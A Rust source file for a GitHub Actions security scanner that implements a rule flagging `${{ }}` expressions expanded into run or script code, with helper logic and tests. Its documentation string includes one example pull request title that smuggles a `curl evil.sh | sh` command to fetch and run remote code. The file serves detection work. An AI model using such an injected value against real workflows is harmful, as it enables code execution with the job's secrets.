//! `ci/template-injection`: `${{ }}` expressions expanded into shell or script code.

use crate::doc::{Audit, Doc, DocKind, Info};
use crate::model::{self, Capability};
use crate::yaml::Node;
use tollgate_model::{Confidence, Finding, Severity};

pub static INFO: Info = Info {
    id: "ci/template-injection",
    name: "Template injection into run or script",
    severity: Severity::High,
    confidence: Confidence::High,
    summary: "A `${{ }}` expression whose value an attacker may control is pasted into a `run:` script or an `actions/github-script` script.",
    docs: r#"GitHub expands `${{ }}` expressions *before* the shell or JavaScript runs, so the value
becomes code. A pull request title such as `a"; curl evil.sh | sh; echo "` runs on the
runner with the job's token and secrets. Each context has a capability: free text written
by outsiders (titles, bodies, branch names, commit messages, `github.head_ref`) is reported
as high; values set inside the workflow (`steps.*.outputs`, `needs.*.outputs`, `env`,
`inputs`) are reported with lower severity because their origin is not known; ids, SHAs and
secrets are not reported, nor are `workflow_dispatch` / `workflow_call` inputs of `type:
choice`, `boolean`, `number` or `environment` (GitHub refuses a value outside the type, so the
author fixed the possible values).

NOT OK:
```yaml
- run: echo "${{ github.event.pull_request.title }}"
```

OK:
```yaml
- run: echo "$TITLE"
  env:
    TITLE: ${{ github.event.pull_request.title }}
```"#,
    fix: "Pass the value through an environment variable (`env: TITLE: ${{ … }}`) and use `\"$TITLE\"` in the script.",
    tags: &["SP-23", "CWE-94"],
    zizmor: Some("template-injection"),
};

pub struct TemplateInjection;

/// Action inputs whose value is run as code (or as command-line options).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("amadevus/pwsh-script", "script"),
    ("addnab/docker-run-action", "run"),
    ("addnab/docker-run-action", "options"),
    ("mikefarah/yq", "cmd"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("jannekem/run-python-script-action", "script"),
    ("tibdex/backport", "title_template"),
    ("tibdex/backport", "body_template"),
];

/// Whether `matrix.<key>` is fixed by the workflow's author: every value the job's matrix
/// gives that key (its own list and `include:` entries) is a literal. A key the matrix does
/// not name is fixed only when the matrix has no `${{ }}` anywhere.
fn literal_matrix(job: Option<&Node>, key: &str) -> bool {
    let Some(m) = job
        .and_then(|j| j.get("strategy"))
        .and_then(|s| s.get("matrix"))
        .filter(|m| m.is_map())
    else {
        return false;
    };
    let mut all = Vec::new();
    m.walk_scalars("", &mut all);
    let key = key.to_ascii_lowercase();
    let mut seen = false;
    for (route, v) in &all {
        let r = route.to_ascii_lowercase();
        let head = r.split(['.', '[']).next().unwrap_or("");
        let names_key = head == key
            || ((head == "include" || head == "exclude")
                && r.split('.')
                    .nth(1)
                    .is_some_and(|k| k.split('[').next() == Some(&key)));
        if names_key {
            seen = true;
            if v.text().contains("${{") {
                return false;
            }
        }
    }
    seen || !all.iter().any(|(_, v)| v.text().contains("${{"))
}

/// `env.X` is fixed when the nearest `env:` defining X (step, then job, then workflow) gives
/// it a literal value. A name no scope defines may come from `$GITHUB_ENV`: not fixed.
fn literal_env(doc: &Doc<'_>, step: Option<&Node>, job: Option<&Node>, name: &str) -> bool {
    for scope in [step, job, Some(doc.root)].into_iter().flatten() {
        if let Some((_, v)) = scope.get("env").and_then(|e| {
            e.entries()
                .iter()
                .find(|(k, _)| k.text().eq_ignore_ascii_case(name))
        }) {
            return v.str().is_some_and(|t| !t.contains("${{"));
        }
    }
    false
}

/// Whether input `name` can only hold a value from a fixed set: every trigger of the workflow
/// that declares it (`workflow_dispatch`, `workflow_call`) gives it `type: choice`, `boolean`,
/// `number` or `environment` (GitHub checks a dispatched value against these), and at least
/// one declares it. Composite actions' inputs have no types: never fixed.
fn typed_input(doc: &Doc<'_>, name: &str) -> bool {
    if doc.kind != DocKind::Workflow {
        return false;
    }
    let Some(on) = doc.root.get("on").filter(|o| o.is_map()) else {
        return false;
    };
    let mut declared = false;
    for trigger in ["workflow_dispatch", "workflow_call"] {
        let Some(inputs) = on.get(trigger).and_then(|t| t.get("inputs")) else {
            continue;
        };
        for (k, v) in inputs.entries() {
            if !k.text().eq_ignore_ascii_case(name) {
                continue;
            }
            let ty = v.get("type").map(|t| t.text().trim().to_ascii_lowercase());
            if !matches!(
                ty.as_deref(),
                Some("choice" | "boolean" | "number" | "environment")
            ) {
                return false;
            }
            declared = true;
        }
    }
    declared
}

/// Reports every risky expression of `code` (a `run:` or `script:` scalar).
pub fn scan_code(
    doc: &Doc<'_>,
    info: &Info,
    code: &Node,
    route: &str,
    step: Option<&Node>,
    job: Option<&Node>,
    out: &mut Vec<Finding>,
) {
    let text = code.text();
    let mut cursor = code.start;
    for e in model::expressions(text) {
        let raw = &text[e.start..e.end];
        let lower = raw.to_ascii_lowercase();
        // (line within the expression, capability, context) of each risky value.
        let mut risky: Vec<(usize, Capability, String)> = Vec::new();
        for c in crate::expr::value_contexts(&e.inner) {
            let mut cap = model::capability(&c);
            if let Some(k) = c.strip_prefix("matrix.")
                && literal_matrix(job, k.split('.').next().unwrap_or(k))
            {
                cap = Capability::Fixed;
            }
            if let Some(name) = c.strip_prefix("env.")
                && literal_env(doc, step, job, name)
            {
                cap = Capability::Fixed;
            }
            if let Some(name) = c
                .strip_prefix("inputs.")
                .or_else(|| c.strip_prefix("github.event.inputs."))
                && typed_input(doc, name)
            {
                cap = Capability::Fixed;
            }
            if cap == Capability::Fixed {
                continue;
            }
            // A multi-line expression is located at the line of each risky context.
            let head = c.split(['.', '*']).next().unwrap_or(&c);
            let at = lower
                .find(c.as_str())
                .or_else(|| lower.find(head))
                .unwrap_or(0);
            let line = raw[..at].matches('\n').count();
            match risky.iter_mut().find(|r| r.0 == line) {
                Some(r) if cap > r.1 => {
                    r.1 = cap;
                    r.2 = c;
                }
                Some(_) => {}
                None => risky.push((line, cap, c)),
            }
        }
        if risky.is_empty() {
            continue;
        }
        // Block scalars lose their indentation in the value; a multi-line expression is found
        // by its first line.
        let needle = raw.lines().next().unwrap_or(raw);
        let (start, end) = match doc.src.get(cursor..).and_then(|s| s.find(needle)) {
            Some(i) => {
                cursor += i + needle.len();
                (cursor - needle.len(), cursor)
            }
            None => (code.start, code.end),
        };
        for (line, worst, culprit) in risky {
            let (start, end) = if line == 0 {
                (start, end)
            } else {
                let nth = raw.split('\n').nth(line).unwrap_or("").trim();
                match doc.src.get(start..).and_then(|s| s.find(nth)) {
                    Some(i) => (start + i, start + i + nth.len()),
                    None => (start, end),
                }
            };
            let mut f = doc.finding_at(
                info,
                start,
                end,
                route,
                format!("`{raw}` expands `{culprit}` into code"),
            );
            if worst == Capability::Unknown {
                if culprit.starts_with("inputs.") || culprit.starts_with("github.event.inputs") {
                    f.severity = Severity::Medium;
                    f.confidence = Confidence::Medium;
                } else {
                    f.severity = Severity::Low;
                    f.confidence = Confidence::Low;
                }
            }
            out.push(f.with_property("context", serde_json::json!(culprit)));
        }
    }
}

impl Audit for TemplateInjection {
    fn info(&self) -> &'static Info {
        &INFO
    }
    fn kinds(&self) -> &'static [DocKind] {
        &[DocKind::Workflow, DocKind::Action]
    }
    fn check(&self, doc: &Doc<'_>, out: &mut Vec<Finding>) {
        for (job, step) in model::all_steps(doc.root) {
            if let Some(run) = step.node.get("run") {
                scan_code(
                    doc,
                    &INFO,
                    run,
                    &format!("{}.run", step.route),
                    Some(step.node),
                    job,
                    out,
                );
            }
            let action = model::step_action(step.node).unwrap_or_default();
            for (a, input) in CODE_INPUTS {
                if action == *a
                    && let Some(n) = step.node.get("with").and_then(|w| w.get(input))
                {
                    scan_code(
                        doc,
                        &INFO,
                        n,
                        &format!("{}.with.{input}", step.route),
                        Some(step.node),
                        job,
                        out,
                    );
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{CiScanner, DocKind};

    fn lines(src: &str) -> Vec<u32> {
        crate::finding_lines("ci/template-injection", src)
    }

    #[test]
    fn multi_line_expressions_are_located_at_each_pasted_context() {
        let src = "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo ${{\n            github.event.issue.number > 1\n            && github.event.issue.title\n            || github.event.issue.body\n          }}\n";
        assert_eq!(lines(src), vec![10, 11]);
    }

    #[test]
    fn env_is_resolved_in_the_nearest_scope() {
        let src = "on: issues\npermissions: {}\nenv:\n  A: ${{ github.event.issue.title }}\njobs:\n  a:\n    runs-on: x\n    env:\n      A: fixed\n    steps:\n      - run: echo ${{ env.A }}\n      - run: echo ${{ env.A }}\n        env:\n          A: ${{ github.event.issue.title }}\n";
        assert_eq!(lines(src), vec![12]);
    }

    #[test]
    fn matrix_keys_are_judged_one_by_one() {
        let src = "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        llvm: [19]\n        include:\n          - runner: ${{ inputs.r }}\n    steps:\n      - run: echo ${{ matrix.llvm }} ${{ matrix.runner }}\n";
        assert_eq!(lines(src), vec![12]);
        let f = CiScanner::default()
            .audit_text(DocKind::Workflow, "w.yml", "w.yml", src)
            .unwrap();
        assert!(f.iter().any(|f| f.message.contains("matrix.runner")));
        assert!(!f.iter().any(|f| f.message.contains("matrix.llvm")));
    }
}
